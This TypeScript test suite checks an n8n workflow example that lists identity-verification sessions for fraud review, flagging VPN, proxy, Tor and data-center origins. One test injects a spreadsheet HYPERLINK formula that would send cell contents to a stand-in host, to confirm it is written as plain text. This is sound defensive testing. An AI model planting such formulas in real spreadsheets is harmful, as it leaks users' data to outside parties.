import { readFormulas, readSpreadsheet } from '../../support/examples/spreadsheet';
import type { Inquiry } from '../../../simulator';
import type { WorkflowFile } from '../../support/n8n/n8nCommand';
import { itemsOf } from '../../support/n8n/workflow';
import type { ExampleStage } from './exampleStage';
import { tellOrigins } from './toldOrigins';

const EXAMPLE = 'sessions-for-fraud-review';
/** How the names of its files begin. */
const FILES = 'sessions-';
/** As the example has it. */
const REFERENCE_ID = 'customer-00042';

export function sessionsForFraudReview(stage: () => ExampleStage): void {
	let first: Inquiry;
	let second: Inquiry;

	beforeAll(() => {
		const person = { referenceId: REFERENCE_ID };
		first = stage().putPerson('Dora', { ...person, status: 'approved' });
		second = stage().putPerson('Dora', { ...person, status: 'completed', sessions: 2 });
		stage().putPerson('Emil', { referenceId: 'somebody-else', status: 'completed' });
	});

	it('has a row for each session of a person, and says what speaks for a closer look', async () => {
		const { n8n, server, world } = stage();
		const vpn = { 'country-code': 'AT', 'country-name': 'Austria', 'is-vpn': true };
		const proxy = { 'country-code': 'BR', 'country-name': 'Brazil', 'is-proxy': true };
		await tellOrigins(n8n.simulator, { [first.id]: vpn, [second.id]: proxy });

		const workflowId = await stage().import(await stage().example(EXAMPLE));
		expect(await server.run(workflowId, 'Start')).toMatchObject({ status: 'success' });
		const asked = n8n.simulator.journal.requests.slice(-2);
		expect(asked.flatMap(({ query }) => query['filter[inquiry-id]']).sort()).toEqual(
			[first.id, second.id].sort(),
		);

		const rows = await readSpreadsheet(n8n.installation, n8n.userFolder.files, FILES);
		const unopened = world.sessions(second.id).find(({ startedAt }) => startedAt === null);
		const byInquiry = (inquiry: string) => rows.filter((row) => row.inquiry === inquiry);
		expect(byInquiry(first.id)).toEqual([
			expect.objectContaining({
				'look at': 'VPN, one of several countries',
				country: 'Austria',
				device: 'desktop, Linux, ExampleBrowser',
			}),
		]);
		expect(byInquiry(second.id)).toEqual(
			expect.arrayContaining([
				expect.objectContaining({
					'look at': 'proxy, one of several countries',
					country: 'Brazil',
				}),
				expect.objectContaining({ session: unopened?.id, inquiry: second.id }),
			]),
		);
		expect(rows).toHaveLength(3);
		expect(rows.find(({ session }) => session === unopened?.id)?.['look at'] ?? '').toBe('');
	});

	it('has what a stranger puts into a browser as text, never as a formula', async () => {
		const { n8n, server } = stage();
		const formula = '=HYPERLINK("http://elsewhere.test/?x="&A1,"look here")';
		const stranger = stage().putPerson('Stranger', { status: 'pending' });
		const told = [
			'device-name',
			'os-name',
			'browser-name',
			'ip-isp',
			'region-name',
			'country-name',
		];
		await tellOrigins(n8n.simulator, {
			[stranger.id]: Object.fromEntries(told.map((name) => [name, formula])),
		});
		const workflowId = await stage().import(await exampleFor(stranger.id));
		expect(await server.run(workflowId, 'Start')).toMatchObject({ status: 'success' });
		const { installation, userFolder } = n8n;
		const rows = await readSpreadsheet(installation, userFolder.files, FILES);
		expect(rows).toEqual([
			expect.objectContaining({ inquiry: stranger.id, country: formula, network: formula }),
		]);
		expect(await readFormulas(installation, userFolder.files, FILES)).toEqual([]);
	});

	/** The example with one inquiry filled in. */
	async function exampleFor(inquiryId: string): Promise<WorkflowFile> {
		const workflow = await stage().example(EXAMPLE);
		const whom = workflow.nodes.find(({ name }) => name === 'Whom?');
		whom!.parameters = JSON.parse(
			JSON.stringify(whom!.parameters).replace(
				'"name":"inquiryId","value":""',
				`"name":"inquiryId","value":"${inquiryId}"`,
			),
		);
		return workflow;
	}

	it('takes one inquiry alone, and holds a single country against nobody', async () => {
		const { n8n, server } = stage();
		const tor = { 'country-code': 'AT', 'is-tor': true, 'is-datacenter': true };
		await tellOrigins(n8n.simulator, { [second.id]: tor });

		const workflowId = await stage().import(await exampleFor(second.id));
		const execution = await server.run(workflowId, 'Start');
		expect(execution.status).toBe('success');
		const rows = itemsOf(execution, 'Describe Session').map((row) => [
			row.inquiry,
			row['opened at'] === null,
			row['look at'],
		]);
		expect(rows.sort()).toEqual([
			[second.id, false, 'Tor, data center'],
			[second.id, true, ''],
		]);
	});
}
